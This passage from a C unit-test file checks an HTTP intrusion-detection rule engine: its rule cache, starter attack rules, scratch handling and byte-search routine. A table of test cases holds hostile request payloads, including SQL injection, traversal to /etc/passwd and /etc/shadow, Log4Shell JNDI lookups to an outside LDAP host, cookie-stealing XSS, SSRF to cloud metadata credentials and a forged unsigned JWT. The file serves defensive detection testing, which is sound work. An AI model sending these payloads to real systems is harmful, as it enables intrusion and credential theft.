	/* gates survive the cache */
	{
		char dir[] = "/tmp/mt_gate_XXXXXX";
		struct mt_engine_params p = {0};
		struct mt_engine *e1, *e2;

		CU_ASSERT_FATAL(mkdtemp(dir) != NULL);
		p.cache_dir = dir;
		e1 = tx_engine(&p, "alert http any any -> any any (http.uri; pcre:\"/[?&](?:xlimit|xsize)=\\d{5,}/\"; sid:2;)\n");
		e2 = tx_engine(&p, "alert http any any -> any any (http.uri; pcre:\"/[?&](?:xlimit|xsize)=\\d{5,}/\"; sid:2;)\n");
		CU_ASSERT_FATAL(e1 != NULL && e2 != NULL);
		CU_ASSERT_FALSE(e1->from_cache);
		CU_ASSERT_TRUE(e2->from_cache);
		CU_ASSERT_EQUAL(e2->need[0], 0x2);
		CU_ASSERT_EQUAL(gate_run(e2, "/x?xsize=99999", NULL, &nc, &r), 1);
		CU_ASSERT_EQUAL(gate_run(e2, "/x?xsize=9999", NULL, &nc, &r), 0);
		mt_engine_destroy(e1);
		mt_engine_destroy(e2);
		{
			DIR *d = opendir(dir);
			struct dirent *de;
			char path[600];

			while (d != NULL && (de = readdir(d)) != NULL) {
				if (de->d_name[0] == '.')
					continue;
				snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
				unlink(path);
			}
			if (d != NULL)
				closedir(d);
			rmdir(dir);
		}
	}
	mt_engine_destroy(e);
}

/* ---------- starter rules ---------- */

static struct mt_engine *
starter(const struct mt_engine_params *p)
{
	const char *f = TEST_SRCDIR "/configs/rules/api-attacks.rules";
	struct mt_errors er = {0};
	struct mt_engine *e = mt_engine_build_files(p, &f, 1, &er);

	tx_print_errors(&er);
	mt_errors_clear(&er);
	return e;
}

struct attack_case {
	const char *kind;
	const char *method, *uri;
	const char *hdr;       /* extra header or NULL */
	const char *neg_uri;   /* negative twin */
	const char *neg_hdr;
	uint8_t verdict;
};

static const struct attack_case attack_cases[] = {
	{"sqli", "GET", "/api/v1/products?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
	 NULL, "/api/v1/products?q=union%20station", NULL, MT_ACT_ALERT},
	{"sqli", "GET", "/api/v1/products?q=1'%20or%201=1--", NULL,
	 "/api/v1/products?q=O'Brien", NULL, MT_ACT_ALERT},
	{"traversal", "GET", "/api/v1/files?path=..%2F..%2F..%2F..%2Fetc%2Fpasswd", NULL,
	 "/api/v1/files?path=reports%2F2024.pdf", NULL, MT_ACT_ALERT},
	{"traversal", "GET", "/../../etc/passwd", NULL, "/static/etc/passwords.html", NULL,
	 MT_ACT_ALERT},
	{"log4shell", "GET", "/api/v1/status", "X-Api-Version: ${jndi:ldap://198.18.250.1:1389/a}",
	 "/api/v1/status", "X-Api-Version: 2.1", MT_ACT_DROP},
	{"log4shell", "GET", "/api/v1/status", "X-Api-Version: ${${lower:j}ndi:ldap://x/a}",
	 "/api/v1/status", "X-Api-Version: ${version}", MT_ACT_DROP},
	{"scanner", "GET", "/api/v1/users", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)",
	 "/api/v1/users", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", MT_ACT_ALERT},
	{"xss", "GET", "/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", NULL,
	 "/api/v1/search?q=javascript%20tutorial", NULL, MT_ACT_ALERT},
	{"ssrf", "POST",
	 "/api/v1/webhooks?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	 NULL, "/api/v1/webhooks?url=https://hooks.example.com/notify", NULL, MT_ACT_ALERT},
	{"ssrf", "POST", "/api/v1/webhooks?callback_url=http://127.0.0.1:8080/admin", NULL,
	 "/api/v1/webhooks?callback_url=https://partner.example.net/cb", NULL, MT_ACT_ALERT},
	{"cmdi", "GET", "/api/v1/tools/ping?host=198.18.0.1%3Bcat%20%2Fetc%2Fshadow", NULL,
	 "/api/v1/tools/ping?host=198.18.0.1", NULL, MT_ACT_ALERT},
	{"jwt_none", "GET", "/api/v1/me",
	 "Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.",
	 "/api/v1/me",
	 "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl",
	 MT_ACT_ALERT},
	{"admin", "GET", "/actuator/env", NULL, "/api/v1/environments", NULL, MT_ACT_ALERT},
	{"apikey_url", "GET", "/api/v1/reports?api_key=sk_live_4eC39HqLyjWDarjtT1zdp7dc", NULL,
	 "/api/v1/reports?page=2", NULL, MT_ACT_ALERT},
};

static void
test_starter_rules(void)
{
	struct mt_engine *e = starter(NULL);
	struct mt_scratch *s;

	CU_ASSERT_FATAL(e != NULL);
	CU_ASSERT(mt_engine_rule_count(e) >= 10);
	s = mt_scratch_create(e);
	CU_ASSERT_FATAL(s != NULL);
	for (size_t i = 0; i < sizeof(attack_cases) / sizeof(attack_cases[0]); i++) {
		const struct attack_case *c = &attack_cases[i];
		const char *hp[4] = {"Host: api.example.com", "Accept: application/json", c->hdr, NULL};
		const char *hn[4] = {"Host: api.example.com", "Accept: application/json", c->neg_hdr,
				     NULL};
		struct tx x;
		struct mt_result r;
		int n;
		bool kind_hit = false;

		tx_req(&x, c->method, c->uri, hp);
		n = mt_match_request(e, s, &x.t, &r);
		for (uint32_t k = 0; k < r.n_hits; k++) {
			const struct mt_rule *rule = (const struct mt_rule *)r.hits[k].rule;
			for (uint16_t m = 0; m < rule->n_meta; m++)
				if (strcmp(rule->meta[m].key, "attack_kind") == 0 &&
				    strcmp(rule->meta[m].value, c->kind) == 0)
					kind_hit = true;
		}
		if (n < 1 || !kind_hit || r.verdict != c->verdict)
			fprintf(stderr, "starter case %zu (%s) positive: %d hits, verdict %d\n", i,
				c->kind, n, r.verdict);
		CU_ASSERT(n >= 1);
		CU_ASSERT(kind_hit);
		CU_ASSERT_EQUAL(r.verdict, c->verdict);
		tx_req(&x, c->method, c->neg_uri, hn);
		n = mt_match_request(e, s, &x.t, &r);
		if (n != 0)
			fprintf(stderr, "starter case %zu (%s) negative: sid %u fired\n", i, c->kind,
				r.hits[0].rule->sid);
		CU_ASSERT_EQUAL(n, 0);
	}
	mt_scratch_destroy(s);
	mt_engine_destroy(e);
}

/* ---------- cache ---------- */

static void
test_cache_roundtrip(void)
{
	char dir[] = "/tmp/mt_cache_XXXXXX";
	struct mt_engine_params p = {0};
	struct mt_engine *e1, *e2, *e3;
	DIR *d;
	struct dirent *de;
	int files = 0;
	char path[512] = "";
	struct tx x;
	struct mt_result r;
	static const char *const h[] = {"Host: t", "User-Agent: sqlmap/1.7", NULL};

	CU_ASSERT_FATAL(mkdtemp(dir) != NULL);
	p.cache_dir = dir;
	e1 = starter(&p);
	CU_ASSERT_FATAL(e1 != NULL);
	CU_ASSERT_FALSE(e1->from_cache);
	d = opendir(dir);
	CU_ASSERT_FATAL(d != NULL);
	while ((de = readdir(d)) != NULL) {
		if (strncmp(de->d_name, "mt-", 3) == 0) {
			files++;
			snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		}
	}
	closedir(d);
	CU_ASSERT_EQUAL(files, 1);
	e2 = starter(&p);
	CU_ASSERT_FATAL(e2 != NULL);
	CU_ASSERT_TRUE(e2->from_cache);
	CU_ASSERT_EQUAL(e2->n_mpm, e1->n_mpm);
	tx_req(&x, "GET", "/api/v1/products?q=1%27%20UNION%20SELECT%20a,b%20FROM%20users--", h);
	CU_ASSERT_EQUAL(tx_run(e2, &x, &r), tx_run(e1, &x, &r));
	CU_ASSERT(r.n_hits >= 2);
	/* a corrupt cache file is ignored and rewritten */
	{
		FILE *f = fopen(path, "r+b");
		CU_ASSERT_FATAL(f != NULL);
		fseek(f, 40, SEEK_SET);
		fputc(0x5a, f);
		fputc(0xa5, f);
		fclose(f);
	}
	e3 = starter(&p);
	CU_ASSERT_FATAL(e3 != NULL);
	CU_ASSERT_FALSE(e3->from_cache);
	CU_ASSERT_EQUAL(tx_run(e3, &x, &r), (int)r.n_hits);
	mt_engine_destroy(e1);
	mt_engine_destroy(e2);
	mt_engine_destroy(e3);
	/* different rules: a different key, so a second file */
	e1 = tx_engine(&p, RULE("http.uri; content:\"x\";"));
	CU_ASSERT(e1 != NULL && !e1->from_cache);
	mt_engine_destroy(e1);
	unlink(path);
	d = opendir(dir);
	while (d && (de = readdir(d)) != NULL) {
		if (de->d_name[0] != '.') {
			snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
			unlink(path);
			files++;
		}
	}
	if (d)
		closedir(d);
	CU_ASSERT_EQUAL(files, 2);
	rmdir(dir);
}

/* ---------- scratch ---------- */

static void
test_scratch_prepare(void)
{
	struct mt_engine *small = tx_engine(NULL, RULE("http.uri; content:\"a\";"));
	struct mt_engine *big = starter(NULL);
	struct mt_scratch *s;
	struct tx x;
	struct mt_result r;
	static const char *const h[] = {"Host: t", NULL};

	CU_ASSERT_FATAL(small != NULL && big != NULL);
	s = mt_scratch_create(small);
	CU_ASSERT_FATAL(s != NULL);
	tx_req(&x, "GET", "/actuator/env", h);
	/* not prepared for the bigger engine: refused, not overrun */
	CU_ASSERT_EQUAL(mt_match_request(big, s, &x.t, &r), -EINVAL);
	CU_ASSERT_EQUAL(mt_scratch_prepare(s, big), 0);
	CU_ASSERT(mt_match_request(big, s, &x.t, &r) >= 1);
	CU_ASSERT_EQUAL(mt_match_request(small, s, &x.t, &r), 1);
	CU_ASSERT_EQUAL(mt_match_request(NULL, s, &x.t, &r), -EINVAL);
	mt_scratch_destroy(s);
	mt_engine_destroy(small);
	mt_engine_destroy(big);
}

/* ---------- no allocation on the match path ---------- */

#if !defined(__SANITIZE_ADDRESS__) && !defined(__has_feature)
#define MT_COUNT_MALLOC 1
#elif defined(__has_feature)
#if !__has_feature(address_sanitizer)
#define MT_COUNT_MALLOC 1
#endif
#endif

#ifdef MT_COUNT_MALLOC
extern void *__libc_malloc(size_t);
extern void *__libc_calloc(size_t, size_t);
extern void *__libc_realloc(void *, size_t);
static volatile long n_allocs;
void *malloc(size_t n) { n_allocs++; return __libc_malloc(n); }
void *calloc(size_t a, size_t b) { n_allocs++; return __libc_calloc(a, b); }
void *realloc(void *p, size_t n) { n_allocs++; return __libc_realloc(p, n); }
#endif

static void
test_no_alloc(void)
{
#ifdef MT_COUNT_MALLOC
	struct mt_engine *e = starter(NULL);
	struct mt_scratch *s;
	long before;
	struct mt_result r;
	struct tx x;
	static const char *const rh[] = {"X-Powered-By: Express", NULL};

	CU_ASSERT_FATAL(e != NULL);
	before = n_allocs;
	s = mt_scratch_create(e);
	CU_ASSERT_FATAL(s != NULL);
	CU_ASSERT(n_allocs > before); /* the counter is live */
	before = n_allocs;
	for (size_t i = 0; i < sizeof(attack_cases) / sizeof(attack_cases[0]); i++) {
		const char *hp[3] = {"Host: a", attack_cases[i].hdr, NULL};
		tx_req(&x, attack_cases[i].method, attack_cases[i].uri, hp);
		tx_resp(&x, 200, "OK", rh);
		CU_ASSERT(mt_match_request(e, s, &x.t, &r) >= 1);
		CU_ASSERT(mt_match_response(e, s, &x.t, &r) >= 1);
	}
	CU_ASSERT_EQUAL(n_allocs, before);
	mt_scratch_destroy(s);
	mt_engine_destroy(e);
#else
	fprintf(stderr, "(allocation count skipped under AddressSanitizer)\n");
#endif
}

/* ---------- mt_search (confirmation's content search) ---------- */

static int64_t
naive_search(const uint8_t *h, uint32_t hl, const uint8_t *p, uint32_t pl, bool nocase)
{
	if (pl == 0)
		return 0;
	for (uint32_t i = 0; i + pl <= hl; i++) {
		uint32_t k = 0;

		for (; k < pl; k++) {
			uint8_t a = h[i + k], b = p[k];

			if (nocase) {
				a = (uint8_t)(a >= 'A' && a <= 'Z' ? a + 32 : a);
				b = (uint8_t)(b >= 'A' && b <= 'Z' ? b + 32 : b);
			}
			if (a != b)
				break;
		}
		if (k == pl)
			return i;
	}
	return -1;
}

/* Every pair of bytes, both cases: only ASCII letters fold (so '@'/'`',
 * '['/'{' and bytes >= 0x80 stay distinct). Middle bytes go through the
 * verification path, first/last through the vector filter. */
static void
test_search_bytes(void)
{
	uint8_t h[3], p[3];
	int bad = 0;

	for (unsigned a = 0; a < 256; a++) {
		for (unsigned b = 0; b < 256; b++) {
			bool fold = (a | 0x20) == (b | 0x20) && ((a | 0x20) - 'a') < 26u;
			bool want = a == b || fold;

			h[0] = (uint8_t)a;
			p[0] = (uint8_t)b;
			bad += (mt_search(h, 1, p, 1, true) == 0) != want;
			bad += (mt_search(h, 1, p, 1, false) == 0) != (a == b);
			h[0] = p[0] = 'q';
			h[2] = p[2] = 'Z';
			h[1] = (uint8_t)a;
			p[1] = (uint8_t)b;
			bad += (mt_search(h, 3, p, 3, true) == 0) != want;
			bad += (mt_search(h, 3, p, 3, false) == 0) != (a == b);
			h[2] = (uint8_t)a;
			p[2] = (uint8_t)b;
			h[1] = p[1] = '-';
			bad += (mt_search(h, 3, p, 3, true) == 0) != want;
		}
	}
	CU_ASSERT_EQUAL(bad, 0);
}

/* The needle at every offset of haystacks of every length up to 80 (so
 * both the 16-byte loop and the scalar tail find it), in a random case
 * mix, against a naive reference; plus random haystacks over a small
 * alphabet, where partial matches abound. */
static void
test_search_offsets(void)
{
	static const char *const needles[] = {
		"Authorization: Bearer ", "Bearer ey", "eyJ", "a", "Zz", "|3a|", "@[`{", "\xff\xc0x",
	};
	static const uint8_t alpha[] = "aAbB:-@`[{\xc1\xe1 ";
	uint8_t hay[96], pat[32];
	unsigned seed = 12345;
	int bad = 0, found = 0;

	for (size_t ni = 0; ni < sizeof(needles) / sizeof(needles[0]); ni++) {
		uint32_t pl = (uint32_t)strlen(needles[ni]);

		for (uint32_t hl = 0; hl <= 80; hl++) {
			for (uint32_t off = 0; off + pl <= hl; off++) {
				bool changed = false;

				memset(hay, '.', sizeof(hay));
				for (uint32_t k = 0; k < pl; k++) {
					uint8_t c = (uint8_t)needles[ni][k];

					seed = seed * 1103515245u + 12345u;
					if ((unsigned)((c | 0x20) - 'a') < 26u && (seed >> 16) & 1) {
						c ^= 0x20;
						changed = true;
					}
					hay[off + k] = c;
				}
				memcpy(pat, needles[ni], pl);
				found += mt_search(hay, hl, pat, pl, true) == off;
				bad += mt_search(hay, hl, pat, pl, true) != (int64_t)off;
				bad += mt_search(hay, hl, pat, pl, false) !=
				       (changed ? -1 : (int64_t)off);
				/* a haystack one byte short never holds it */
				bad += mt_search(hay, off + pl - 1, pat, pl, true) != -1;
			}
		}
	}
	for (int round = 0; round < 20000; round++) {
		uint32_t hl, pl;

		seed = seed * 1103515245u + 12345u;
		hl = (seed >> 16) % 90;
		seed = seed * 1103515245u + 12345u;
		pl = 1 + (seed >> 16) % 6;
		for (uint32_t k = 0; k < hl; k++) {
			seed = seed * 1103515245u + 12345u;
			hay[k] = alpha[(seed >> 16) % (sizeof(alpha) - 1)];
		}
		for (uint32_t k = 0; k < pl; k++) {
			seed = seed * 1103515245u + 12345u;
			pat[k] = alpha[(seed >> 16) % (sizeof(alpha) - 1)];
		}
		bad += mt_search(hay, hl, pat, pl, true) != naive_search(hay, hl, pat, pl, true);
		bad += mt_search(hay, hl, pat, pl, false) != naive_search(hay, hl, pat, pl, false);
	}
	CU_ASSERT_EQUAL(bad, 0);
	CU_ASSERT(found > 1000);
	CU_ASSERT_EQUAL(mt_search(hay, 0, pat, 0, true), 0);
}

/* Haystacks that end at a PROT_NONE page, and start at a page boundary:
 * the vector loads must stay inside [hay, hay + len). */
static void
test_search_guard(void)
{
	long pg = sysconf(_SC_PAGESIZE);
	uint8_t *m = mmap(NULL, (size_t)pg * 3, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
			  -1, 0);
	static const uint8_t pat[] = "bEaReR eY";
	uint32_t pl = sizeof(pat) - 1;
	int bad = 0;

	CU_ASSERT_FATAL(m != MAP_FAILED);
	CU_ASSERT_FATAL(mprotect(m, (size_t)pg, PROT_NONE) == 0);
	CU_ASSERT_FATAL(mprotect(m + 2 * pg, (size_t)pg, PROT_NONE) == 0);
	for (uint32_t hl = 0; hl <= 100; hl++) {
		uint8_t *end = m + 2 * pg, *start = m + pg;

		/* absent, then at the very end, then missing its last byte */
		memset(end - hl, 'x', hl);
		bad += mt_search(end - hl, hl, (const uint8_t *)"y", 1, false) != -1;
		bad += mt_search(end - hl, hl, (const uint8_t *)"Y", 1, true) != -1;
		bad += mt_search(end - hl, hl, pat, pl, true) != -1;
		if (hl >= pl) {
			memcpy(end - pl, "Bearer ey", pl);
			bad += mt_search(end - hl, hl, pat, pl, true) != (int64_t)(hl - pl);
			bad += mt_search(end - hl, hl - 1, pat, pl, true) != -1;
			bad += mt_search(end - hl, hl, (const uint8_t *)"Bearer ey", pl, false) !=
			       (int64_t)(hl - pl);
		}
		bad += mt_search(end - hl, hl, (const uint8_t *)"xy", 2, true) != -1;
		bad += mt_search(end - hl, hl, (const uint8_t *)"Y", 1, true) != (hl >= pl ? (int64_t)hl - 1 : -1);
		/* needle at the very start of a page */
		memset(start, 'x', hl);
		if (hl >= pl) {
			memcpy(start, "BEARER EY", pl);
			bad += mt_search(start, hl, pat, pl, true) != 0;
			bad += mt_search(start, hl, pat, pl, false) != -1;
		}
	}
	CU_ASSERT_EQUAL(bad, 0);
	munmap(m, (size_t)pg * 3);
}

/* Confirmation starts at the offset Hyperscan reported for the fast
 * pattern: it must still find later occurrences (backtracking for a
 * relative keyword), honour windows that start after the reported match,
 * and fail when the only occurrence lies outside the window. */
static void
test_fast_pattern_anchor(void)
{
	/* first "abc" is not followed by y, the second is */
	CU_ASSERT_EQUAL(on("content:\"abc\"; content:\"y\"; distance:1; within:1;", "/abc-x-abc-y"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; content:\"y\"; distance:1; within:1;", "/abc-x-abc-z"), 0);
	CU_ASSERT_EQUAL(on("content:\"ABC\"; nocase; content:\"y\"; distance:1; within:1;",
			   "/aBc-x-AbC-y"), 1);
	/* reported match before the offset window; a later one inside it */
	CU_ASSERT_EQUAL(on("content:\"ab\"; offset:3;", "/ab-ab"), 1);
	CU_ASSERT_EQUAL(on("content:\"ab\"; offset:3;", "/ab---"), 0);
	/* depth ends before the only occurrence */
	CU_ASSERT_EQUAL(on("content:\"ab\"; depth:3;", "/ab-ab"), 1);
	CU_ASSERT_EQUAL(on("content:\"ab\"; depth:3;", "/-ab-ab"), 0);
	/* the fast pattern is the second content; the first one is relative-free */
	CU_ASSERT_EQUAL(on("content:\"/\"; content:\"longer\"; fast_pattern; distance:0;",
			   "/longer"), 1);
	CU_ASSERT_EQUAL(on("content:\"q\"; content:\"longer\"; fast_pattern; distance:0;",
			   "/longer?q"), 0);
	/* chopped fast pattern: the content starts fp_off bytes before it */
	CU_ASSERT_EQUAL(on("content:\"xchopx\"; fast_pattern:1,4; content:\"!\"; within:1;",
			   "/ychopx-xchopx!"), 1);
	CU_ASSERT_EQUAL(on("content:\"xchopx\"; fast_pattern:1,4; content:\"!\"; within:1;",
			   "/ychopx-xchopx?"), 0);
	/* endswith with an earlier occurrence */
	CU_ASSERT_EQUAL(on("content:\"ab\"; endswith;", "/ab-ab"), 1);
	CU_ASSERT_EQUAL(on("content:\"ab\"; endswith;", "/ab-a"), 0);
	/* same fast pattern in two rules (two pattern ids, one report each) */
	{
		struct mt_engine *e = tx_engine(NULL,
			"alert http any any -> any any (http.uri; content:\"dup\"; sid:1;)\n"
			"alert http any any -> any any (http.uri; content:\"dup\"; content:\"!\"; within:1; sid:2;)\n");
		struct mt_result r;
		struct tx x;

		CU_ASSERT_FATAL(e != NULL);
		tx_req(&x, "GET", "/dup-dup!", NULL);
		CU_ASSERT_EQUAL(tx_run(e, &x, &r), 2);
		tx_req(&x, "GET", "/dup-dup", NULL);
		CU_ASSERT_EQUAL(tx_run(e, &x, &r), 1);
		CU_ASSERT(tx_has_sid(&r, 1));
		mt_engine_destroy(e);
	}
}

int
main(void)
{
	CU_pSuite su;

	if (CU_initialize_registry() != CUE_SUCCESS)
		return 1;
	su = CU_add_suite("matchers_match", NULL, NULL);
	CU_add_test(su, "buffers_request", test_buffers_request);
	CU_add_test(su, "buffers_absent", test_buffers_absent);
	CU_add_test(su, "buffers_response", test_buffers_response);
	CU_add_test(su, "uri_normalize", test_uri_normalize);
	CU_add_test(su, "offset_depth", test_offset_depth);
	CU_add_test(su, "relative", test_relative);
	CU_add_test(su, "negation", test_negation);
	CU_add_test(su, "bsize_isdataat", test_bsize_isdataat);
	CU_add_test(su, "pcre", test_pcre);
	CU_add_test(su, "fast_pattern_variants", test_fast_pattern_variants);
	CU_add_test(su, "guard_page", test_guard_page);
	CU_add_test(su, "actions", test_actions);
	CU_add_test(su, "many_hits", test_many_hits);
	CU_add_test(su, "addresses", test_addresses);
	CU_add_test(su, "to_client_addresses", test_to_client_addresses);
	CU_add_test(su, "fast_pattern_grouping", test_fast_pattern_grouping);
	CU_add_test(su, "equal_literals", test_equal_literals);
	CU_add_test(su, "fast_pattern_rare", test_fast_pattern_rare);
	CU_add_test(su, "direct_small_db", test_direct_small_db);
	CU_add_test(su, "header_names_lookup", test_header_names_lookup);
	CU_add_test(su, "pcre_lines", test_pcre_lines);
	CU_add_test(su, "flowbits", test_flowbits);
	CU_add_test(su, "gates", test_gates);
	CU_add_test(su, "starter_rules", test_starter_rules);
	CU_add_test(su, "cache_roundtrip", test_cache_roundtrip);
	CU_add_test(su, "scratch_prepare", test_scratch_prepare);
	CU_add_test(su, "no_alloc", test_no_alloc);
	CU_add_test(su, "search_bytes", test_search_bytes);
	CU_add_test(su, "search_offsets", test_search_offsets);
	CU_add_test(su, "search_guard", test_search_guard);
	CU_add_test(su, "fast_pattern_anchor", test_fast_pattern_anchor);
	return tu_run_all();
}
